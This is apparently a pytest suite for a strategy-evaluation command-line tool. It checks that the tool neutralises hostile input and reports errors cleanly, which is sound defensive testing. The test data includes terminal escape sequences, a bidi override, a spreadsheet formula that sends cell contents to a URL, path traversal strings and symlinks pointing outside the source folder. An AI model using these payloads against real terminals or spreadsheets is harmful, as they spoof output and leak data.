"""Issue 15's command-line reproducers: closed output, terminal escapes, unexpected
errors, ``-o`` and ``init`` misuse, each one clear error (exit 1 or 2), no traceback."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from cli_runner import cli_runner
from stratkit.cli import main

VALID = Path(__file__).parent.parent / "data" / "valid" / "minimal.yaml"
BASE = VALID.read_text(encoding="utf-8")
ESC = "\x1b]0;PWNED\x07"
BIDI = "\u202e"


@pytest.fixture
def runner() -> CliRunner:
    return cli_runner()


def _write(folder: Path, text: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "strategy.yaml").write_text(text, encoding="utf-8")
    return folder


def _no_raw_escapes(text: str) -> None:
    assert "\x1b" not in text
    assert "\x07" not in text
    assert BIDI not in text


def test_validate_prints_a_hostile_title_inert(runner: CliRunner, tmp_path: Path) -> None:
    title = f'"X\\e]0;PWNED\\a {BIDI}gnp.exe"'
    folder = _write(tmp_path / "s", BASE.replace("title: Test strategy", f"title: {title}"))
    result = runner.invoke(main, ["validate", str(folder)])
    assert result.exit_code == 0, result.stdout + result.stderr
    _no_raw_escapes(result.stdout + result.stderr)
    assert "\\x1b]0;PWNED\\x07" in (result.stdout + result.stderr)
    assert "\\u202e" in (result.stdout + result.stderr)


def test_error_locations_print_hostile_keys_inert(runner: CliRunner, tmp_path: Path) -> None:
    key = '"k\\e[2J\\u202e"'
    folder = _write(tmp_path / "s", BASE.replace("  name: Test NHS Trust", f"  {key}: 1"))
    result = runner.invoke(main, ["validate", str(folder)])
    assert result.exit_code == 1
    _no_raw_escapes(result.stdout)  # validate's findings are its output, as a linter's
    assert "unknown field" in result.stdout


def test_lint_prints_hostile_text_inert(runner: CliRunner, tmp_path: Path) -> None:
    text = BASE.replace(
        "statement: Drive down our vacancy rate to 14%", f'statement: "{ESC!r}"'
    ).replace("data_source", "x")
    folder = _write(tmp_path / "s", text)
    result = runner.invoke(main, ["lint", str(folder)])
    _no_raw_escapes(result.stdout + result.stderr)


def test_evaluate_json_keeps_the_data_and_escapes_bidi(runner: CliRunner, tmp_path: Path) -> None:
    import json

    folder = _write(
        tmp_path / "s",
        BASE.replace("Drive down our vacancy rate to 14%", f"Drive {BIDI}down\u0085"),
    )
    result = runner.invoke(main, ["evaluate", str(folder), "--format", "json"])
    assert result.exit_code == 0, result.stdout + result.stderr
    _no_raw_escapes(result.stdout)
    assert "\x85" not in result.stdout
    statements = json.dumps(json.loads(result.stdout), ensure_ascii=False)
    assert f"Drive {BIDI}down" in statements  # the same data, once parsed


def test_evaluate_csv_guards_every_text_cell(runner: CliRunner, tmp_path: Path) -> None:
    text = BASE.replace(
        "statement: Drive down our vacancy rate to 14%",
        "statement: '=HYPERLINK(\"http://x/?\"&A1,\"x\")'\n            owner: '@SUM(A1)'",
    )
    folder = _write(tmp_path / "s", text)
    result = runner.invoke(main, ["evaluate", str(folder), "--format", "csv"])
    assert result.exit_code == 0, result.stdout + result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "@", "+", "\t", "\r")), (column, cell)
            if cell.startswith("-"):
                float(cell)  # only a plain number may start with a minus sign
    assert rows[0]["statement"].startswith("'=HYPERLINK")


def _stratkit(*args: str, **kw: Any) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "stratkit", *args],
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
        **kw,
    )


@pytest.mark.skipif(os.name != "posix", reason="closing a descriptor in the child")
@pytest.mark.parametrize("command", ["evaluate", "validate", "lint", "schema"])
def test_a_closed_stdout_is_an_error_without_traceback(command: str, tmp_path: Path) -> None:
    folder = _write(tmp_path / "s", BASE)
    args = [command] if command == "schema" else [command, str(folder)]
    proc = subprocess.run(
        [sys.executable, "-m", "stratkit", *args],
        stdin=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        check=False,
        timeout=120,
        preexec_fn=lambda: os.close(1),
    )
    assert proc.returncode == 1
    assert "Traceback" not in proc.stderr
    assert "standard output is closed" in proc.stderr


def test_a_reader_going_away_ends_quietly_with_status_1(tmp_path: Path) -> None:
    folder = _write(tmp_path / "s", BASE)
    with subprocess.Popen(
        [sys.executable, "-m", "stratkit", "schema"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    ) as proc:
        assert proc.stdout is not None
        proc.stdout.close()  # `| head -0`
        _, err = proc.communicate(timeout=120)
    assert proc.returncode == 1
    assert "Traceback" not in err
    assert folder.exists()


def test_an_unexpected_exception_is_one_line_and_the_debug_hint(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # a bug cannot be provoked on purpose; stand one in for it
    import stratkit.io

    def broken(*args: Any, **kwargs: Any) -> None:
        raise RuntimeError("something\nbroke")

    monkeypatch.setattr(stratkit.io, "load", broken)
    folder = _write(tmp_path / "s", BASE)
    result = runner.invoke(main, ["validate", str(folder)])
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        "error: unexpected RuntimeError: something broke",
        "(run `stratkit --debug ...` to see where it happened)",
    ]
    loud = runner.invoke(main, ["--debug", "validate", str(folder)])
    assert isinstance(loud.exception, RuntimeError)


def test_max_bytes_is_an_option(runner: CliRunner, tmp_path: Path) -> None:
    folder = _write(tmp_path / "s", BASE)
    small = runner.invoke(main, ["validate", str(folder), "--max-bytes", "100"])
    assert small.exit_code == 1
    assert "file too large" in small.stderr
    big = runner.invoke(main, ["validate", str(folder), "--max-bytes", "1000000"])
    assert big.exit_code == 0


@pytest.mark.parametrize("date", ["9999-12-31", "0001-01-01"])
def test_as_of_outside_the_date_range_is_a_usage_error(
    runner: CliRunner, tmp_path: Path, date: str
) -> None:
    folder = _write(tmp_path / "s", BASE)
    result = runner.invoke(main, ["evaluate", str(folder), "--as-of", date])
    assert result.exit_code == 2
    assert "2199-12-31" in result.stderr


def test_report_to_a_folder_name_is_refused(runner: CliRunner, tmp_path: Path) -> None:
    folder = _write(tmp_path / "s", BASE)
    out = tmp_path / "newdir"
    result = runner.invoke(main, ["report", str(folder), "-o", f"{out}/"])
    assert result.exit_code == 2
    assert "names a folder" in result.stderr
    assert not out.exists()


@pytest.mark.skipif(os.name != "posix", reason="symbolic links")
def test_report_through_a_symlink_is_refused_naming_the_file(
    runner: CliRunner, tmp_path: Path
) -> None:
    folder = _write(tmp_path / "s", BASE)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    link = tmp_path / "report.html"
    link.symlink_to(victim)
    result = runner.invoke(main, ["report", str(folder), "-o", str(link)])
    assert result.exit_code == 1
    assert str(link) in result.stderr
    assert "symbolic link" in result.stderr
    assert ".tmp" not in result.stderr
    assert victim.read_text(encoding="utf-8") == "keep me"


@pytest.mark.parametrize("source", ["../../x", "/abs/path", "kmpt_2023_26/../kmpt_2020_23"])
def test_init_from_takes_only_an_example_name(
    runner: CliRunner, tmp_path: Path, source: str
) -> None:
    result = runner.invoke(main, ["init", str(tmp_path / "t"), "--from", source])
    assert result.exit_code == 2
    assert "no example" in result.stderr
    assert not (tmp_path / "t").exists()


def test_init_from_an_example_copies_only_the_scaffold(runner: CliRunner, tmp_path: Path) -> None:
    from stratkit import examples

    if "kmpt_2023_26" not in examples.names():
        pytest.skip("the KMPT example is not in this checkout")
    target = tmp_path / "t"
    assert runner.invoke(main, ["init", str(target), "--from", "kmpt_2023_26"]).exit_code == 0
    names = sorted(p.name for p in target.iterdir())
    assert "strategy.yaml" in names
    assert "README.md" in names
    assert all(n in ("strategy.yaml", "README.md") or n.startswith("observations") for n in names)


def test_init_refuses_an_empty_target(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(main, ["init", ""])
    assert result.exit_code == 2
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(os.name != "posix", reason="symbolic links")
def test_init_over_a_dangling_link_writes_nothing(runner: CliRunner, tmp_path: Path) -> None:
    target = tmp_path / "t"
    target.mkdir()
    (target / "strategy.yaml").symlink_to(tmp_path / "nowhere")
    result = runner.invoke(main, ["init", str(target)])
    assert result.exit_code == 1
    assert "strategy.yaml" in result.stderr
    assert sorted(p.name for p in target.iterdir()) == ["strategy.yaml"]


def test_init_that_fails_half_way_leaves_nothing(tmp_path: Path) -> None:
    from stratkit.cli._files import _write_scaffold

    target = tmp_path / "new" / "t"
    # the third file cannot be created (a NUL in its name): the files written,
    # the sub-folder and the folders init made are removed again
    files = {"strategy.yaml": b"x", "templates/sub/card.html.j2": b"y", "bad\0name": b"z"}
    with pytest.raises(ValueError, match="null"):
        _write_scaffold(target, files)
    assert list(tmp_path.iterdir()) == []


def _source_folder(root: Path) -> Path:
    """A strategy folder with every scaffold file, and files init must leave behind."""
    source = root / "theirs"
    (source / "templates" / "parts").mkdir(parents=True)
    (source / "img").mkdir()
    (source / "source").mkdir()
    (source / "strategy.yaml").write_text(BASE, encoding="utf-8")
    files = {
        "README.md": "# theirs\n",
        "observations.csv": "outcome_id,period,value,unit\n",
        "observations_2024.xlsx": "not really a workbook",
        "observations.md": "how the data was made\n",
        "commentary.yaml": "commentary: []\n",
        "branding.yaml": 'name: Their Trust\nlogo: "img/logo.png"  # theirs\n',
        "img/logo.png": "png",
        "img/other.png": "not named by branding.yaml",
        "templates/card.html.j2": "{{ card.statement }}",
        "templates/parts/extra.html.j2": "x",
        "source/strategy.txt": "the source text",
        "generate_observations.py": "print()",
        "notes.txt": "private notes",
    }
    for rel, text in files.items():
        (source / rel).write_text(text, encoding="utf-8")
    return source


def _tree(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def test_init_from_a_folder_copies_only_the_scaffold(runner: CliRunner, tmp_path: Path) -> None:
    source = _source_folder(tmp_path)
    target = tmp_path / "mine"
    result = runner.invoke(main, ["init", str(target), "--from-folder", str(source)])
    assert result.exit_code == 0, result.stderr
    copied = _tree(target)
    assert sorted(copied) == [
        "README.md",
        "branding.yaml",
        "commentary.yaml",
        "img/logo.png",
        "observations.csv",
        "observations.md",
        "observations_2024.xlsx",
        "strategy.yaml",
        "templates/card.html.j2",
        "templates/parts/extra.html.j2",
    ]
    original = _tree(source)
    assert all(copied[rel] == original[rel] for rel in copied)  # byte for byte


@pytest.mark.skipif(os.name != "posix", reason="symbolic links")
@pytest.mark.parametrize(
    "link", ["README.md", "observations.csv", "templates/parts", "templates/x.j2", "img/logo.png"]
)
def test_init_from_a_folder_refuses_a_link_that_leads_outside(
    runner: CliRunner, tmp_path: Path, link: str
) -> None:
    source = _source_folder(tmp_path)
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "key.txt").write_text("private", encoding="utf-8")
    path = source / link
    if path.is_dir():
        import shutil

        shutil.rmtree(path)
        path.symlink_to(secret)
    else:
        path.unlink(missing_ok=True)
        path.symlink_to(secret / "key.txt")
    target = tmp_path / "mine"
    result = runner.invoke(main, ["init", str(target), "--from-folder", str(source)])
    assert result.exit_code == 2
    assert "outside" in result.stderr
    assert Path(link).name in result.stderr
    assert not target.exists()


@pytest.mark.skipif(os.name != "posix", reason="symbolic links")
def test_init_from_a_folder_copies_a_link_inside_it_as_a_file(
    runner: CliRunner, tmp_path: Path
) -> None:
    source = _source_folder(tmp_path)
    (source / "README.md").unlink()
    (source / "README.md").symlink_to(source / "notes.txt")
    target = tmp_path / "mine"
    assert runner.invoke(main, ["init", str(target), "--from-folder", str(source)]).exit_code == 0
    assert not (target / "README.md").is_symlink()
    assert (target / "README.md").read_text(encoding="utf-8") == "private notes"


def test_init_from_a_folder_refuses_a_logo_outside_it(runner: CliRunner, tmp_path: Path) -> None:
    source = _source_folder(tmp_path)
    (tmp_path / "elsewhere.png").write_text("png", encoding="utf-8")
    (source / "branding.yaml").write_text("logo: ../elsewhere.png\n", encoding="utf-8")
    target = tmp_path / "mine"
    result = runner.invoke(main, ["init", str(target), "--from-folder", str(source)])
    assert result.exit_code == 2
    assert "outside" in result.stderr
    assert not target.exists()


@pytest.mark.parametrize("what", ["no strategy", "a file", "missing"])
def test_init_from_a_folder_needs_a_strategy_folder(
    runner: CliRunner, tmp_path: Path, what: str
) -> None:
    source = tmp_path / "theirs"
    if what == "no strategy":
        source.mkdir()
        (source / "README.md").write_text("x", encoding="utf-8")
    elif what == "a file":
        source.write_text("x", encoding="utf-8")
    result = runner.invoke(main, ["init", str(tmp_path / "mine"), "--from-folder", str(source)])
    assert result.exit_code == 2
    assert str(source) in result.stderr
    assert not (tmp_path / "mine").exists()


@pytest.mark.parametrize(
    "options",
    [["--from", "kmpt_2023_26", "--from-folder", "x"], ["--from-folder", "x", "--blank"]],
)
def test_init_takes_one_source(runner: CliRunner, tmp_path: Path, options: list[str]) -> None:
    result = runner.invoke(main, ["init", str(tmp_path / "t"), *options])
    assert result.exit_code == 2
    assert "choose one of" in result.stderr
    assert not (tmp_path / "t").exists()


def test_init_from_with_a_path_points_to_from_folder(runner: CliRunner, tmp_path: Path) -> None:
    result = runner.invoke(main, ["init", str(tmp_path / "t"), "--from", "../theirs"])
    assert result.exit_code == 2
    assert "--from-folder" in result.stderr
